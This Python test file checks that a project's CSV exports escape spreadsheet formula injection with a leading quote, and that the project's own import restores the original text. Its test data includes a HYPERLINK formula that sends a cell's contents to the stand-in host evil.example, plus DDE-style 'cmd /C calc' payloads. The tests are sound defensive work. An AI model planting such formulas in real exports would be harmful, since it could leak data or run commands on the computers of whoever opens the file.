"""Every CSV the project writes is safe to open in a spreadsheet: a text cell starting with =, +, -, @, a tab
or a carriage return gets a leading ' (OWASP), numbers stay numbers, and synthstudio's CSV import reads its own
export back to the same texts."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from annotation.review.final_labels import final_label_refresh
from evaluation.curation.filters import FilterSettings
from evaluation.curation.snapshots import snapshot_create
from evaluation.export.writers import csv_chunks
from evaluation.models import MetricsCache
from synthstudio.csv_safety import formula_safe, formula_unescape
from synthstudio.importing import ColumnMapping, RowParser, parse_file, read_records
from synthstudio.models import LabelMethod, LLMAnnotation, Sample

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+1 555 0100 call now",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def snapshot(project, lead):
    for text in [*DANGEROUS, "A delight from start to finish."]:
        sample = Sample.objects.create(project=project, text=text)
        LLMAnnotation.objects.create(
            sample=sample, label="positive", distribution={"positive": 0.8, "negative": 0.2}, confidence=0.8,
            method=LabelMethod.IMPORTED,
        )  # fmt: skip
        final_label_refresh(sample=sample)
    return snapshot_create(project=project, user=lead, settings=FilterSettings())


def exported_rows(snapshot) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(csv_chunks(snapshot)).decode(), newline="")))


def test_the_snapshot_csv_prefixes_every_formula_text_with_a_quote_and_keeps_numbers_as_numbers(snapshot):
    rows = exported_rows(snapshot)

    assert {row["text"] for row in rows} == {"'" + text for text in DANGEROUS} | {
        "A delight from start to finish."
    }
    assert {(row["weight"], row["llm_confidence"]) for row in rows} == {("0.8", "0.8")}
    assert all(row["id"].isdigit() for row in rows)


def test_the_snapshot_csv_download_is_prefixed_too(lead_client, project, snapshot):
    response = lead_client.get(
        reverse("evaluation:snapshot_download", args=[project.id, snapshot.version, "csv"])
    )

    body = b"".join(response.streaming_content).decode()
    assert "\n=HYPERLINK" not in body and ',"=HYPERLINK' not in body
    assert '\'=HYPERLINK(""http://evil.example/' in body


def test_the_chart_csv_prefixes_user_text_but_not_negative_numbers(lead_client, project):
    payload = {
        "labels": {"names": ["=HYPERLINK(\"http://evil.example\")", "@SUM(A1)"], "final": [3, 1], "llm": [3, 1],
                   "human": [2, 0]},
        "pairwise": {"leaderboard": [
            {"player": "-cmd", "games": 4, "win_rate": 0.25, "elo": 980.5, "elo_low": 950.0, "elo_high": 1010.0,
             "bt": -0.5, "bt_low": -1.25, "bt_high": 0.25},
            {"player": "+1 model", "games": 4, "win_rate": 0.75, "elo": 1019.5, "elo_low": 990.0, "elo_high": 1050.0,
             "bt": 0.5, "bt_low": -0.25, "bt_high": 1.25},
        ]},
    }  # fmt: skip
    MetricsCache.objects.create(project=project, data_version="test", payload=payload)

    labels = lead_client.get(f"/projects/{project.id}/evaluation/csv/label-distribution.csv").content.decode()
    board = lead_client.get(f"/projects/{project.id}/evaluation/csv/leaderboard.csv").content.decode()

    label_rows = list(csv.reader(io.StringIO(labels)))
    assert [row[0] for row in label_rows[1:]] == ['\'=HYPERLINK("http://evil.example")', "'@SUM(A1)"]
    board_rows = list(csv.reader(io.StringIO(board)))
    assert [row[0] for row in board_rows[1:]] == ["'-cmd", "'+1 model"]
    assert board_rows[1][7:10] == ["-0.5", "-1.25", "0.25"]


def test_synthstudio_reads_its_own_escaped_csv_export_back_to_the_same_texts(snapshot):
    exported = b"".join(csv_chunks(snapshot))

    cells = [record.values["text"] for record in read_records(io.BytesIO(exported), "csv")]
    parsed = list(
        parse_file(io.BytesIO(exported), "csv", RowParser(ColumnMapping(text_columns=["text"]), []))
    )

    assert b",\"'=HYPERLINK(" in exported  # the file is escaped...
    assert sorted(cells) == sorted([*DANGEROUS, "A delight from start to finish."])  # ...the import undoes it
    assert '=HYPERLINK("http://evil.example/?"&A1,"Click for details")' in {row.text for row in parsed}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        ("'=x", "''=x"), ("'tis", "'tis"), ("plain", "plain"), ("", ""), (-0.5, -0.5), (-3, -3), (None, None),
    ],
)  # fmt: skip
def test_formula_safe_prefixes_strings_only_and_formula_unescape_undoes_it(value, written):
    assert formula_safe(value) == written
    if isinstance(value, str):
        assert formula_unescape(written) == value
